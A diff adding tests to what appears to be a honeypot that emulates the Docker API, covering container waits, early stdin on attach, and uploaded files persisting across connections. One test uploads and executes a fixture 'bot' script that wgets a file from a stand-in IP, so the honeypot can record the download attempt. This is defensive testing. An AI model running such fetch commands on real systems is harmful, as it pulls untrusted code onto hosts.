@@ -10,13 +10,14 @@ from typing import Any
 import pytest
 
 from eudaemon.events.catalogue import CommandEntered, ExploitRecognised, RequestReceived
-from eudaemon.protocols._api import TASKS_MAX, command_line
+from eudaemon.protocols._api import EARLY_BYTES_MAX, TASKS_MAX, command_line
 from eudaemon.protocols._base import Claim, HalfClosed
 from eudaemon.protocols._tar import MEMBERS_MAX, members
 from eudaemon.protocols.docker import Docker
 from eudaemon.protocols.docker.containers import CONTAINERS_MAX, EXECUTIONS_MAX, Execution, Made, Shelf, words_of
 from eudaemon.protocols.docker.daemon import daemon_of, normalised
 from eudaemon.protocols.docker.room import FILES_MAX
+from eudaemon.protocols.docker.routes import WAIT_S_MAX
 from eudaemon.testing.script import Table, visit
 from eudaemon.wire import Purse
 from eudaemon.world.host import Host
@@ -41,7 +42,10 @@ class Client:
         """Ask; return status and body, chunks undone."""
         data = json.dumps(body).encode() if isinstance(body, dict) else body
         text = f"{method} {path} HTTP/1.1\r\nHost: a\r\nContent-Length: {len(data)}\r\n{head}\r\n"
-        return parsed(self.table.say(text.encode() + data, self.split))
+        before = len(self.table.sent)
+        self.table.say(text.encode() + data, self.split)
+        self.table.wait(0.5)
+        return parsed(self.table.sent[before:])
 
     def json(self, method: str, path: str, body: bytes | dict[str, Any] = b"") -> Any:
         return json.loads(self.ask(method, path, body)[1])
@@ -194,6 +198,27 @@ def test_an_upgraded_connection_is_a_stream() -> None:
     assert client.table.over
 
 
+def test_who_waits_for_a_shell_waits_as_long_as_somebody_is_there() -> None:
+    memory = Memory()
+    client, waiting = Client(memory), Client(memory)
+    number = client.create("sh", Tty=True, OpenStdin=True)
+    client.ask("POST", f"/containers/{number}/attach?stdin=1", head="Upgrade: tcp\r\n")
+    waiting.table.say(f"POST /containers/{number}/wait HTTP/1.1\r\nHost: a\r\n\r\n".encode())
+    waiting.table.wait(5)
+    assert waiting.table.sent == b""
+    client.table.say(b"exit\r")
+    waiting.table.wait(1)
+    assert parsed(waiting.table.sent)[1] == b'{"Error":null,"StatusCode":0}\n'
+    client = Client(memory)
+    client.ask("POST", f"/containers/{number}/attach?stdin=1", head="Upgrade: tcp\r\n")
+    waiting = Client(memory)
+    waiting.table.say(f"POST /containers/{number}/wait HTTP/1.1\r\nHost: a\r\n\r\n".encode())
+    waiting.table.wait(WAIT_S_MAX - 1)
+    assert waiting.table.sent == b""
+    waiting.table.wait(2)
+    assert waiting.table.sent
+
+
 def test_lines_may_come_from_a_pipe() -> None:
     client = Client()
     number = client.create("sh", OpenStdin=True)
@@ -206,6 +231,22 @@ def test_lines_may_come_from_a_pipe() -> None:
     assert client.table.sent.endswith(b"\x01\0\0\0\0\0\0\x05came\n\x01\0\0\0\0\0\0\x06later\n")
     assert client.table.over
     assert answer == b""
+
+
+def test_lines_that_come_before_the_stream_has_begun() -> None:
+    client = Client()
+    number = client.create("sh", OpenStdin=True)
+    client.table.say(f"POST /containers/{number}/attach?stdin=1 HTTP/1.1\r\nHost: a\r\nUpgrade: tcp\r\n\r\n".encode())
+    client.table.say(b"echo early\n")
+    client.table.tell(HalfClosed(client.table.at_s))
+    assert client.table.sent.endswith(b"\x01\0\0\0\0\0\0\x06early\n")
+    assert client.table.over
+    for past in (0, 1):
+        client = Client()
+        number = client.create("sh", OpenStdin=True)
+        client.table.say(f"POST /containers/{number}/attach?stdin=1 HTTP/1.1\r\nHost: a\r\n\r\n".encode())
+        client.table.say(b"\n" * (EARLY_BYTES_MAX + past))
+        assert bool(client.table.fault) == bool(past)
 
 
 def test_an_execution_in_a_container_of_the_owners() -> None:
@@ -231,6 +272,19 @@ def test_an_uploaded_file_is_kept_byte_for_byte(size: int) -> None:
     assert client.ask("HEAD", f"/containers/{number}/archive?path=/tmp/nothing")[0] == 404
     client.table.end()
     assert len(client.table.kept) == 2, "once"
+
+
+def test_an_uploaded_file_is_there_for_the_next_connection() -> None:
+    memory = Memory()
+    number = Client(memory).create("sh")
+    script = b"#!/bin/sh\nwget http://198.51.100.7/x\n"
+    Client(memory).ask("PUT", f"/containers/{number}/archive?path=/", archive(bot=script, big=content(100_000)))
+    client = Client(memory)
+    created = client.json("POST", f"/containers/{number}/exec", {"Cmd": ["sh", "-c", "ls -l /big; /bot"]})
+    client.ask("POST", f"/exec/{created['Id']}/start", {"Detach": True})
+    assert [wish.download.url for wish in client.table.wishes] == ["http://198.51.100.7/x"]
+    client.table.answer("failed")
+    assert "100000" in Shelf.of(memory, "198.51.100.7").containers[0].output
 
 
 def test_an_upload_that_breaks_off_is_kept_as_a_part() -> None:
